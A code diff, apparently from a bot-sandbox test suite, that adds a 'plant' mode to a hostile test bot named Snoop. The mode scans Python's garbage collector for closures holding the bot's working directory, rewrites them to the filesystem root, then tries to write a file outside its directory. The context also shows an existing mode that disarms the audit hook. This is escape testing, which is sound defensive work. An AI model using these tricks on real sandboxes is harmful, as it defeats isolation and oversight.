@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import contextlib
 import gc
 import glob
 import os
@@ -290,10 +291,28 @@ class Snoop(Hostile):
     descriptors of directories, and the game directories of every sandboxed bot; and to send a
     message out."""
 
-    def __init__(self, target: str = "", other: str = "", tamper: bool = False) -> None:
-        self.target, self.other, self.tamper = target, other, tamper
+    def __init__(self, target: str = "", other: str = "", tamper: bool = False,
+                 plant: str = "") -> None:
+        self.target, self.other, self.tamper, self.plant = target, other, tamper, plant
 
     def misbehave(self, obs: Observation[Any]) -> Any:
+        if self.plant:  # make the directory the audit hook lets it write in the whole file
+            # system, then leave a note outside its own
+            here, widened = os.path.realpath(os.getcwd()) + os.sep, 0
+            for found in gc.get_objects():
+                if type(found).__name__ == "function" and found.__closure__:
+                    for cell in found.__closure__:
+                        with contextlib.suppress(ValueError):
+                            if cell.cell_contents == here:
+                                cell.cell_contents = os.sep
+                                widened += 1
+            try:
+                with open(self.plant, "w") as note:
+                    note.write("written from a game")
+                print(f"snoop widened {widened} and could write {self.plant}", flush=True)
+            except OSError:
+                print(f"snoop widened {widened} and could not write {self.plant}", flush=True)
+            return obs.legal[0]
         if self.tamper:  # first disarm the audit hook: empty what it keeps out of reach
             disarmed = 0
             for found in gc.get_objects():
